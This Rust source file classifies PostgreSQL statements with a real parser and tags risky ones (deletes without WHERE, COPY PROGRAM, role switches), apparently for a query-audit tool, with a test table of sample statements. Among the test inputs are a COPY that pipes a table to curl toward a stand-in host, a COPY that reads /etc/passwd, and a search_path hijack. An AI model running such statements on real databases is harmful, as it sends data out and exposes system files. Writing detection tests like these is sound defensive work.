//! SQL classified with a real parser: `sqlparser` with its PostgreSQL
//! dialect, never with regular expressions.
//!
//! Why `sqlparser` rather than `pg_query` (PostgreSQL's own parser): it is
//! pure Rust (no C build, no libclang), cheap to build and fuzz, and bounds
//! its recursion. Its grammar is not PostgreSQL's to the letter, so a
//! statement PostgreSQL accepts may be refused here; such a statement is
//! classified [`Class::Unparsable`], which the default rules flag: a person
//! looks at what the machine could not read, which is the safe side.

use sqlparser::ast::{
    AlterRoleOperation, CopySource, CopyTarget, ObjectType, Query, Set, SetExpr, Statement,
};
use sqlparser::dialect::PostgreSqlDialect;
use sqlparser::parser::Parser;

use crate::shell::cut;
use crate::{Class, Classified, Tag};

/// Bytes of one query text parsed at most; a longer one is unparsable.
pub const SQL_LEN_MAX: usize = 1024 * 1024;
/// Nesting depth the parser follows at most (deeper text is unparsable).
const RECURSION_MAX: usize = 64;
/// Statements of one query text classified at most (the rest are counted as
/// one unparsable remainder).
pub const STATEMENTS_PER_TEXT_MAX: usize = 1000;

/// Classifies a query text (one `query` or `parse` entry), which may hold
/// several statements. Text the parser refuses is one `Unparsable` entry
/// whose `normalised` is the text, cut.
pub fn classify_sql(text: &str) -> Vec<Classified> {
    let unparsable = |why: &str| {
        vec![Classified {
            class: Class::Unparsable,
            tags: Vec::new(),
            normalised: format!("{} -- {why}", cut(text.trim(), 4096)),
        }]
    };
    if text.len() > SQL_LEN_MAX {
        return unparsable(&format!("longer than {SQL_LEN_MAX} bytes"));
    }
    if text.trim().trim_matches(';').trim().is_empty() {
        // An empty query: nothing ran.
        return Vec::new();
    }
    let dialect = PostgreSqlDialect {};
    let parsed = Parser::new(&dialect)
        .with_recursion_limit(RECURSION_MAX)
        .try_with_sql(text)
        .and_then(|mut p| p.parse_statements());
    match parsed {
        Err(e) => unparsable(&format!("not parsed: {e}")),
        Ok(stmts) => {
            let mut out: Vec<Classified> = stmts
                .iter()
                .take(STATEMENTS_PER_TEXT_MAX)
                .map(classify_statement)
                .collect();
            if stmts.len() > STATEMENTS_PER_TEXT_MAX {
                out.push(Classified {
                    class: Class::Unparsable,
                    tags: Vec::new(),
                    normalised: format!(
                        "-- {} more statements in one query, not classified",
                        stmts.len() - STATEMENTS_PER_TEXT_MAX
                    ),
                });
            }
            out
        }
    }
}

fn classify_statement(s: &Statement) -> Classified {
    let (class, tags) = class_of(s);
    Classified {
        class,
        tags,
        normalised: s.to_string(),
    }
}

fn class_of(s: &Statement) -> (Class, Vec<Tag>) {
    use Class::*;
    match s {
        Statement::Query(q) => (query_class(q), Vec::new()),
        Statement::Insert(_) | Statement::Merge(_) => (Write, Vec::new()),
        Statement::Update(u) => (
            Write,
            if u.selection.is_none() {
                vec![Tag::UpdateWithoutWhere]
            } else {
                Vec::new()
            },
        ),
        Statement::Delete(d) => (
            Write,
            if d.selection.is_none() && d.using.is_none() {
                vec![Tag::DeleteWithoutWhere]
            } else {
                Vec::new()
            },
        ),
        Statement::Truncate(_) => (Write, vec![Tag::Truncate]),
        Statement::Copy {
            source, to, target, ..
        } => {
            let program = matches!(target, CopyTarget::Program { .. });
            let mut tags = Vec::new();
            if program {
                tags.push(Tag::CopyProgram);
            }
            if *to {
                tags.push(Tag::CopyTo);
                let class = match source {
                    // `COPY (DELETE ... RETURNING) TO` writes.
                    CopySource::Query(q) if query_class(q) == Write => Write,
                    _ => Read,
                };
                (class, tags)
            } else {
                (Write, tags)
            }
        }
        Statement::Grant(_) | Statement::Revoke(_) | Statement::Deny(_) => (Privilege, Vec::new()),
        Statement::CreateRole(_) | Statement::CreateUser(_) => (Privilege, Vec::new()),
        Statement::AlterUser(_) => (Privilege, Vec::new()),
        Statement::AlterRole { operation, .. } => (
            Privilege,
            match operation {
                AlterRoleOperation::Set { .. } | AlterRoleOperation::Reset { .. } => {
                    vec![Tag::RoleSetting]
                }
                _ => Vec::new(),
            },
        ),
        Statement::Drop {
            object_type: ObjectType::Role | ObjectType::User,
            ..
        } => (Privilege, Vec::new()),
        Statement::StartTransaction { .. }
        | Statement::Commit { .. }
        | Statement::Rollback { .. }
        | Statement::Savepoint { .. }
        | Statement::ReleaseSavepoint { .. } => (Transaction, Vec::new()),
        Statement::Set(set) => (
            Session,
            match set {
                Set::SetRole { .. } | Set::SetSessionAuthorization(_) => vec![Tag::RoleSwitch],
                _ => Vec::new(),
            },
        ),
        Statement::Reset(_) | Statement::Discard { .. } => (Session, Vec::new()),
        Statement::ShowVariable { .. }
        | Statement::ShowVariables { .. }
        | Statement::ShowStatus { .. }
        | Statement::ShowTables { .. }
        | Statement::ShowColumns { .. }
        | Statement::ShowDatabases { .. }
        | Statement::ShowSchemas { .. }
        | Statement::ShowFunctions { .. }
        | Statement::ShowCreate { .. }
        | Statement::Fetch { .. } => (Read, Vec::new()),
        // EXPLAIN ANALYZE runs the statement: it is what it explains.
        Statement::Explain {
            analyze: true,
            statement,
            ..
        } => class_of(statement),
        Statement::Explain { .. } | Statement::ExplainTable { .. } => (Read, Vec::new()),
        // PREPARE defines, EXECUTE runs what was defined: the summariser
        // classifies the prepared text when it runs.
        Statement::Prepare { .. }
        | Statement::Execute { .. }
        | Statement::Deallocate { .. }
        | Statement::Declare { .. }
        | Statement::Close { .. } => (Utility, Vec::new()),
        Statement::Comment { .. } => (Ddl, Vec::new()),
        other => (generic_class(other), Vec::new()),
    }
}

/// Statements without a case of their own, by the leading keyword of the
/// parser's rendering (the AST, not the recorded text): `CREATE`, `ALTER`
/// and `DROP` change the schema; the rest (`VACUUM`, `ANALYZE`, `LISTEN`,
/// `CALL`, `LOCK`, ...) are utility.
fn generic_class(s: &Statement) -> Class {
    let rendered = s.to_string();
    match rendered.split_whitespace().next() {
        Some("CREATE" | "ALTER" | "DROP" | "COMMENT") => Class::Ddl,
        _ => Class::Utility,
    }
}

/// A query reads, unless a data-modifying CTE or `SELECT INTO` writes.
fn query_class(q: &Query) -> Class {
    let writes_cte = q.with.as_ref().is_some_and(|w| {
        w.cte_tables
            .iter()
            .any(|cte| query_class(&cte.query) != Class::Read)
    });
    if writes_cte {
        return Class::Write;
    }
    set_class(&q.body)
}

fn set_class(body: &SetExpr) -> Class {
    match body {
        SetExpr::Select(s) if s.into.is_some() => Class::Ddl,
        SetExpr::Select(_) | SetExpr::Values(_) | SetExpr::Table(_) => Class::Read,
        SetExpr::Query(q) => query_class(q),
        SetExpr::SetOperation { left, right, .. } => {
            let (l, r) = (set_class(left), set_class(right));
            if l != Class::Read { l } else { r }
        }
        SetExpr::Insert(_) | SetExpr::Update(_) | SetExpr::Delete(_) | SetExpr::Merge(_) => {
            Class::Write
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The table: a query text and, per statement, its class and tags.
    const TABLE: &[(&str, &str)] = &[
        ("select 1", "read"),
        ("SELECT * FROM accounts WHERE id = $1", "read"),
        ("select 1; select 2", "read; read"),
        ("with t as (select 1) select * from t", "read"),
        ("values (1), (2)", "read"),
        // FIXME: sqlparser's PostgreSQL dialect does not parse `TABLE name`
        // nor `CREATE USER ... WITH PASSWORD`; unparsable is flagged, so a
        // person sees them (the safe side).
        ("table accounts", "unparsable"),
        ("show search_path", "read"),
        ("explain select 1", "read"),
        (
            "explain analyze delete from t",
            "write delete_without_where",
        ),
        ("fetch 10 from c", "read"),
        ("insert into t values (1)", "write"),
        ("insert into t select * from u", "write"),
        ("update t set a = 1 where id = 2", "write"),
        ("update t set a = 1", "write update_without_where"),
        ("UPDATE t SET a = 1 FROM u", "write update_without_where"),
        ("delete from t where id = 1", "write"),
        ("delete from t", "write delete_without_where"),
        ("delete from t using u where t.id = u.id", "write"),
        ("truncate t", "write truncate"),
        ("truncate table a, b cascade", "write truncate"),
        (
            "merge into t using s on t.id = s.id when matched then delete",
            "write",
        ),
        (
            "with d as (delete from t returning *) select * from d",
            "write",
        ),
        ("select * into backup from t", "ddl"),
        ("copy t to stdout", "read copy_to"),
        ("copy (select * from users) to '/tmp/u.csv'", "read copy_to"),
        (
            "copy t to program 'curl -d @- x.example'",
            "read copy_program copy_to",
        ),
        ("copy t from stdin", "write"),
        (
            "copy t from program 'cat /etc/passwd'",
            "write copy_program",
        ),
        ("create table t (id int)", "ddl"),
        ("create index on t (id)", "ddl"),
        ("alter table t add column c int", "ddl"),
        ("drop table t", "ddl"),
        (
            "create function f() returns int language sql as 'select 1'",
            "ddl",
        ),
        ("create extension pgcrypto", "ddl"),
        ("comment on table t is 'x'", "ddl"),
        ("create schema s", "ddl"),
        ("grant select on t to bob", "privilege"),
        ("revoke all on t from bob", "privilege"),
        ("create role r login", "privilege"),
        ("create user u with password 'x'", "unparsable"),
        ("alter role r superuser", "privilege"),
        (
            "alter role current_user set search_path = evil",
            "privilege role_setting",
        ),
        ("alter role r reset all", "privilege role_setting"),
        ("drop role r", "privilege"),
        ("begin", "transaction"),
        (
            "start transaction isolation level serializable",
            "transaction",
        ),
        ("commit", "transaction"),
        ("rollback", "transaction"),
        ("savepoint a", "transaction"),
        ("release savepoint a", "transaction"),
        ("set statement_timeout = 0", "session"),
        ("set role admin", "session role_switch"),
        ("set session authorization postgres", "session role_switch"),
        ("reset all", "session"),
        ("discard all", "session"),
        ("prepare p as select 1", "utility"),
        ("execute p", "utility"),
        ("deallocate p", "utility"),
        ("vacuum t", "utility"),
        ("listen ch", "utility"),
        ("selct 1", "unparsable"),
        (
            "select (((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((1)))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))",
            "unparsable",
        ),
        ("", ""),
        (";", ""),
    ];

    fn render(c: &[Classified]) -> String {
        c.iter()
            .map(|c| {
                let mut parts = vec![c.class.as_str().to_string()];
                let mut tags: Vec<&str> = c.tags.iter().map(|t| t.as_str()).collect();
                tags.sort();
                parts.extend(tags.into_iter().map(str::to_string));
                parts.join(" ")
            })
            .collect::<Vec<_>>()
            .join("; ")
    }

    #[test]
    fn table() {
        let mut wrong = Vec::new();
        for (sql, want) in TABLE {
            let got = render(&classify_sql(sql));
            if got != *want {
                wrong.push(format!("{sql:?}: got [{got}], want [{want}]"));
            }
        }
        assert!(wrong.is_empty(), "\n{}", wrong.join("\n"));
    }

    #[test]
    fn normalised_text_is_the_parsers_rendering() {
        let c = classify_sql("delete   from\n  t");
        assert_eq!(c[0].normalised, "DELETE FROM t");
        let u = classify_sql("selct 1");
        assert!(
            u[0].normalised.starts_with("selct 1 -- not parsed"),
            "{u:?}"
        );
    }

    #[test]
    fn limits() {
        let long = format!("select '{}'", "x".repeat(SQL_LEN_MAX));
        assert_eq!(classify_sql(&long)[0].class, Class::Unparsable);
        let many = "select 1;".repeat(STATEMENTS_PER_TEXT_MAX + 5);
        let c = classify_sql(&many);
        assert_eq!(c.len(), STATEMENTS_PER_TEXT_MAX + 1);
        assert_eq!(c[STATEMENTS_PER_TEXT_MAX].class, Class::Unparsable);
    }
}
